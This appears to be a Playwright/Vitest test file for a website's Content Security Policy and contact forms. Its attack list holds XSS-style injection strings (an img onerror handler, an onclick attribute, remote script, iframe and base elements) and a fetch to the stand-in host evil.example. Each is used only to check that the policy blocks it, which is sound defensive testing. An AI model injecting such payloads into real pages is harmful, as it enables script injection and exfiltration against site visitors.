import { describe, expect, inject, test } from 'vitest';
import { ENDPOINT } from '../built-sites.ts';
import { fillAndSend, mounted, success } from './forms.ts';
import { ALL, collectErrors } from './site-page.ts';
import { newPage, soon, visit } from './visit.ts';

/** What could get into a page by mistake, and the directive that blocks it. */
const ATTACKS = [
  [
    'require-trusted-types-for',
    `document.body.insertAdjacentHTML('beforeend', '<img src="/" onerror="ran = 1">')`,
  ],
  ['require-trusted-types-for', `document.body.setAttribute('onclick', 'window.ran = true')`],
  ['require-trusted-types-for', 'add("script", "src", "/x.js")'],
  ['trusted-types', 'trustedTypes.createPolicy("default", { createScriptURL: (url) => url })'],
  ['img-src', 'add("img", "src", "/x.png")'],
  ['frame-src', 'add("iframe", "src", "/")'],
  ['style-src-elem', 'add("link", "href", "/x.css").rel = "stylesheet"'],
  ['base-uri', 'add("base", "href", "/")'],
  ['connect-src', 'void fetch("https://evil.example/").catch(() => {})'],
] as const;

test.each(ATTACKS)('the security policy blocks by %s: %s', async (directive, attack) => {
  const blocked: string[] = [];
  const page = await newPage();
  await page.exposeFunction('noteBlocked', (one: string) => blocked.push(one));
  await page.addInitScript(() => {
    const { noteBlocked } = window as unknown as { noteBlocked(directive: string): void };
    addEventListener('securitypolicyviolation', ({ effectiveDirective }) => noteBlocked(effectiveDirective));
    Object.assign(window, {
      add(tag: string, attribute: string, path: string) {
        const element = document.createElement(tag);
        document.body.append(element);
        element.setAttribute(attribute, `https://evil.example${path}`);
        return element;
      },
    });
  });
  await page.goto('/about');
  await page.evaluate(attack).catch(() => {});
  await page.locator('h1').click();
  await soon(() => blocked).toContain(directive);
  expect(await page.evaluate(() => 'ran' in window)).toBe(false);
});

describe('a site with analytics and an endpoint for forms', () => {
  const LEAD = { name: 'Ada Hall', email: 'ada@example.com', message: 'Our market is Omaha.' };
  const site = inject('variant');

  test('loads its tags and sends its forms, and nothing is blocked', async () => {
    const page = await newPage({ baseURL: site, consent: ALL });
    const errors = collectErrors(page);
    const posted: unknown[] = [];
    await page.route('https://www.googletagmanager.com/**', (route) =>
      route.fulfill({ contentType: 'text/javascript', body: 'window.tagged = true' }),
    );
    await page.route('https://challenges.cloudflare.com/**', (route) =>
      route.fulfill({
        contentType: 'text/javascript',
        body: 'window.turnstile = { render: (_, { callback }) => callback("proof") }',
      }),
    );
    await page.route(ENDPOINT, (route) => {
      const body = route.request().postDataJSON();
      posted.push(body);
      return route.fulfill({
        json: { id: body._id },
        headers: { 'Access-Control-Allow-Origin': '*', 'Access-Control-Allow-Headers': '*' },
      });
    });
    await page.goto('/contact');
    await page.waitForFunction(() => 'tagged' in window);
    await mounted(page);
    await fillAndSend(page, { form: 'contact', values: LEAD });
    await success(page);
    expect(posted).toEqual([expect.objectContaining(LEAD)]);
    expect(errors).toEqual([]);
  });

  test('posts its forms without JavaScript', async () => {
    const page = await visit('/contact', { baseURL: site, javaScriptEnabled: false });
    const posted = page.waitForRequest(ENDPOINT);
    await page.route(ENDPOINT, (route) =>
      route.fulfill({ status: 303, headers: { Location: `${site}/thank-you` } }),
    );
    await fillAndSend(page, { form: 'contact', values: LEAD });
    expect((await posted).postData()).toContain('name=Ada+Hall');
    await page.waitForURL('**/thank-you');
  });
});
